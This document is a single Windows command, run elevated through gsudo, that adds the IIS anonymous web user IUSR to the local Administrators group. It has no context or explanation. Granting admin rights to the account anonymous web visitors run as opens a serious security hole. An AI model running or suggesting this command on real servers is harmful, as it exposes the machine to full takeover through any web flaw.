gsudo net localgroup Administrators IUSR /add
